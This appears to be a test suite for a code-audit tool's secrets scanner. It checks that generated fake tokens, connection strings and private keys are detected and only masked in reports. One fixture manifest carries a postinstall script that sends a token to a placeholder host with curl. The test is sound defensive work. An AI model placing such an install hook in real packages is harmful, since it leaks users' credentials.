/** No part of a report may show a secret, wherever in the code base it stands and whoever quotes it. */
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { describe, it } from "node:test";
import { observeSecrets } from "../../../src/plugins/audit/secrets.ts";
import { maskOf } from "../../../src/plugins/audit/secrets/scan.ts";
import { audit, createChance, folder, latin1Of, placed, utf16Of, type Audited } from "./harness.ts";

const random = createChance(11);
const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const text = (length: number, from = LETTERS): string =>
  Array.from({ length }, () => from.charAt(Math.floor(random() * from.length))).join("");
const UPPER = LETTERS.slice(0, 26);
const HEX = "0123456789abcdef";

/** Made up at run time: none of them was ever valid, and none stands in this repository. */
const SECRETS: Readonly<Record<string, string>> = {
  GITHUB_TOKEN: `ghp_${text(36)}`,
  AWSAccessKeyID: `AKIA${text(16, UPPER)}`,
  AWSSecretAccessKey: text(40),
  NPM_ACCESS_TOKEN: `npm_${text(36)}`,
  SLACK_TOKEN: `xoxb-${text(12, "123456789")}-${text(12, "123456789")}-${text(24)}`,
  IncomingWebhook: `https://hooks.slack.com/services/T${text(8, UPPER)}/B${text(8, UPPER)}/${text(24)}`,
  GITLAB_PERSONAL_ACCESS_TOKEN: `glpat-${text(20)}`,
  BasicAuth: `https://robot:${text(16)}@internal.corp.dev`,
  PostgreSQLConnection: `postgres://app:${text(18)}@db.corp.dev:5432/main`,
  MongoDBConnection: `mongodb://app:${text(18)}@db.corp.dev/main`,
  SENDGRID_KEY: `SG.${text(22)}.${text(43)}`,
  DATABRICKS_PERSONAL_ACCESS_TOKEN: `dapi${text(32, HEX)}`,
  HUGGINGFACE_USER_ACCESS_TOKEN: `hf_${text(34, LETTERS.slice(0, 52))}`,
};
const PEM = generateKeyPairSync("rsa", {
  modulusLength: 2_048,
  publicKeyEncoding: { type: "spki", format: "pem" },
  privateKeyEncoding: { type: "pkcs1", format: "pem" },
}).privateKey;

const lineOf = (name: string, value: string): string =>
  name === "AWSSecretAccessKey" ? `aws_secret_access_key = "${value}"` : `${name.toLowerCase()} = "${value}"`;

/** Parts of a secret that are long enough to be of use to somebody; what a mask shows, and what is no secret, is left out. */
function partsOf(secret: string): readonly string[] {
  const confidential = secret.replace(/^[a-z]+:\/\/[^:]+:/u, "").replace(/@.*$/u, "");
  const parts: string[] = [];
  for (let at = 4; at + 10 <= confidential.length; at += 5) parts.push(confidential.slice(at, at + 10));
  return parts;
}

/** Everything that left the agents, but for the files themselves. */
function everythingOf({ outputs, html, json, sarif, blobs, unpacked }: Audited): string {
  const files = new Set(["blob-0", ...unpacked.files.map(({ ref }) => ref.blob)]);
  const stored = [...blobs.written].filter(([blob]) => !files.has(blob));
  return [
    ...Object.values(outputs),
    html,
    json,
    sarif,
    ...stored.map(([, bytes]) => new TextDecoder().decode(bytes)),
  ].join("\n");
}

function assertAbsent(result: Audited, secrets: readonly string[]): void {
  const everything = everythingOf(result);
  for (const secret of secrets)
    for (const part of partsOf(secret)) assert.ok(!everything.includes(part), `a part of ${maskOf(secret)} came out`);
}

describe("secrets", () => {
  for (const [name, secret] of Object.entries(SECRETS)) {
    it(`finds ${name} and shows no more of it than its first characters`, async () => {
      const code = `// settings\n${lineOf(name, secret)}\n`;
      const result = await audit(await folder({ "src/.env": code, "a.md": `see ${secret} there` }));
      assert.ok(placed(result.findings).includes(`secrets/${name} src/.env:2`), placed(result.findings).join());
      assertAbsent(result, [secret]);
    });
  }

  it("finds private keys of many lines, and quotes none of the lines", async () => {
    const inCode = `const key = ${JSON.stringify(PEM)};\neval(key);`;
    const result = await audit(
      await folder({ "key.pem": PEM, "key.js": inCode, "tls.js": `const k = \`${PEM}\`; eval(k);` }),
    );
    const found = placed(result.findings.filter(({ tool }) => tool === "secrets"));
    assert.deepEqual([...found].sort(), [
      "secrets/PrivateKey key.js:1",
      "secrets/PrivateKey key.pem:1",
      "secrets/PrivateKey tls.js:1",
    ]);
    assertAbsent(result, PEM.split("\n").slice(1, -2));
  });

  it("shows no secret through the other analysers: code, broken code, manifests, names", async () => {
    const secrets = Object.values(SECRETS);
    const [token = "", , aws = "", npm = ""] = secrets;
    const manifest = {
      name: "app",
      version: `1.0.0-${token}`,
      license: token,
      scripts: { postinstall: `curl -H "x: ${token}" https://x` },
      dependencies: {
        [token]: "*",
        a: `git+https://robot:${token}@github.com/a/b.git`,
        b: `https://x.dev/${token}.tgz`,
        c: token,
        d: `npm:${token}@*`,
      },
    };
    const lock = {
      lockfileVersion: 3,
      packages: {
        "": manifest,
        [`node_modules/${token}`]: {
          version: "1.0.0",
          resolved: `http://robot:${token}@x.dev/${token}`,
          hasInstallScript: true,
          license: token,
        },
        "node_modules/e": {
          version: "1.0.0",
          resolved: `https://x.dev/${token}?${npm}`,
          license: `LicenseRef-${token}`,
        },
      },
    };
    const result = await audit(
      await folder({
        // the AWS secret is a secret by its name alone
        "eval.js": secrets
          .filter((secret) => secret !== aws)
          .map((secret) => `eval(${JSON.stringify(secret)} + x);`)
          .join("\n"),
        "aws.js": `eval(x, 'aws_secret_access_key = "${aws}"');`,
        "broken.js": `let "${token}" = ; ${token} ${token}`,
        "broken.ts": `let a: "${token}" = = ${token};`,
        "declared.js": `let ${token}; let ${token};`,
        "long.js": `${"a();".repeat(3_000)}eval("${token}"+x);${"b();".repeat(3_000)}`,
        "package.json": JSON.stringify(manifest, null, 2),
        "package-lock.json": JSON.stringify(lock, null, 2),
        "other/package.json": `{"name": "x", "dependencies": {"lodash": "^4.0.0", "y": "${token}"}}`,
        "b/package.json": `{ "broken": "${token}" `,
      }),
    );
    assert.ok(result.findings.length > 25);
    assertAbsent(result, secrets);
  });

  it("is not switched off by a comment of the code's author", async () => {
    const { GITHUB_TOKEN: token = "" } = SECRETS;
    const code = `/* secretlint-disable */\n// eslint-disable-next-line\n/* eslint-disable */ eval(x); // secretlint-disable-line\nlet t = "${token}"; // secretlint-disable-line\n`;
    const found = placed((await audit(await folder({ "a.js": code }))).findings);
    assert.deepEqual(found, ["static/detect-eval-with-expression a.js:3", "secrets/GITHUB_TOKEN a.js:4"]);
  });

  it("finds them in UTF-8 with a mark, UTF-16 and Latin-1, at the right place", async () => {
    const { GITHUB_TOKEN: token = "" } = SECRETS;
    const code = `// é\nlet t = "${token}";\n`;
    const files = {
      "mark.js": `\u{feff}${code}`,
      "wide.js": new Uint8Array([0xff, 0xfe, ...utf16Of(code)]),
      "unmarked.txt": new Uint8Array(utf16Of(`let t = "${token}";`.repeat(2))),
      "big.txt": new Uint8Array([0xfe, 0xff, ...utf16Of(code, true)]),
      "latin.js": latin1Of(code),
    };
    const result = await audit(await folder(files));
    const found = result.findings.map(({ rule, path, line, column }) => [rule, path, line, column].join(" "));
    const expected = [
      "big.txt 2 10",
      "latin.js 2 10",
      "mark.js 2 10",
      "unmarked.txt 1 10",
      "unmarked.txt 1 61",
      "wide.js 2 10",
    ];
    assert.deepEqual(
      found.sort(),
      expected.map((place) => `secrets/GITHUB_TOKEN ${place}`),
    );
    assertAbsent(result, [token]);
  });

  it("gives the same secret the same fingerprint in every file, and other secrets others", async () => {
    const { GITHUB_TOKEN: one = "", NPM_ACCESS_TOKEN: other = "" } = SECRETS;
    const keys = await Promise.all(
      [`a("${one}")`, `\n\nb = '${one}'`, `c("${other}")`].map(
        async (code) => (await observeSecrets("a.js", code))[0]?.key,
      ),
    );
    assert.equal(keys[0], keys[1]);
    assert.notEqual(keys[0], keys[2]);
    assert.match(keys[0] ?? "", /^[0-9a-f]{16}$/u);
  });

  it("shows less of a short secret, and of none more than four characters", () => {
    for (let length = 0; length < 60; length++) {
      const shown = maskOf("x".repeat(length)).split("…")[0] ?? "";
      assert.ok(shown.length <= 4 && shown.length <= length / 4);
    }
  });

  it("lists the first fifty of a file and counts the others", async () => {
    const code = Array.from({ length: 60 }, () => `"ghp_${text(36)}"`).join("\n");
    const seen = await observeSecrets("a.js", code);
    assert.equal(seen.length, 51);
    assert.equal(seen.at(-1)?.message, "10 more are not listed.");
  });

  it("finds what lies across the windows that a long file is read in", async () => {
    const { GITHUB_TOKEN: token = "" } = SECRETS;
    for (const at of [64 * 1024 - 20, 64 * 1024, 80 * 1024 - 20, 128 * 1024 + 5]) {
      const seen = await observeSecrets("a.txt", `${" ".repeat(at)}${token} ${" ".repeat(300_000)}`);
      assert.deepEqual(
        seen.map(({ rule, column }) => [rule, column]),
        [["secrets/GITHUB_TOKEN", at + 1]],
      );
    }
  });

  it("reads a file of nothing but tokens in reasonable time", async () => {
    const began = performance.now();
    await observeSecrets("a.txt", Array.from({ length: 50_000 }, () => `ghp_${text(36)}`).join("\n"));
    assert.ok(performance.now() - began < 20_000);
  });

  it("stays quick on texts that were made to slow its patterns down", async () => {
    const starts = [
      "xoxb-1-",
      "postgres://a",
      "-----BEGIN RSA PRIVATE KEY-----\n",
      "https://a:",
      "_authToken=",
      "SG.a.",
      "ops_ey",
      "glc_",
      "aws_secret_access_key=",
      "a".repeat(40),
      "\n",
      " ",
      '"private_key": "',
    ];
    for (const start of starts) {
      const began = performance.now();
      await observeSecrets("a.js", start.repeat(Math.floor(2_000_000 / start.length)));
      assert.ok(performance.now() - began < 10_000, start);
    }
  });
});
